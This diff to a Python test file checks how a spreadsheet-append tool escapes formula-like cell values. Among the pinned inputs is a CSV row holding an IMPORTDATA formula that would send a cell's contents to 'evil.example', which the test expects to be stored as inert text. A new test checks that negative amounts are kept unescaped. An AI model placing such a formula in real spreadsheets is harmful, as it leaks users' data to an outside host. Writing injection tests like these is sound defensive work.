@@ -69,3 +69,12 @@ def test_text_sheets_would_take_for_a_formula_is_entered_as_text(ctx, sandbox):
     csv = ctx.service("drive").files().export(fileId="1Q3BudgetSheet", mimeType="text/csv").execute().decode()
     typed = next(csv_line for csv_line in csv.splitlines() if csv_line.startswith("Robin"))
     assert typed == """Robin,'+33 6 12 34 56 78,'-,"'+IMPORTDATA(""https://evil.example/?""&C2)",-45,+5,'@home"""
+
+
+def test_a_negative_amount_goes_in_as_typed_so_that_sums_count_it(ctx):
+    rows = [["Refund", "", "-$1,200.00"], ["Credit", "", "-450 €"], ["Fee", "", "-1.200,50"]]
+
+    invoke("sheets_append", ctx, {"spreadsheet": "1Q3BudgetSheet", "rows": rows})
+
+    csv = ctx.service("drive").files().export(fileId="1Q3BudgetSheet", mimeType="text/csv").execute().decode()
+    assert csv.splitlines()[-3:] == ['Refund,,"-$1,200.00"', "Credit,,-450 €", 'Fee,,"-1.200,50"']  # no apostrophe
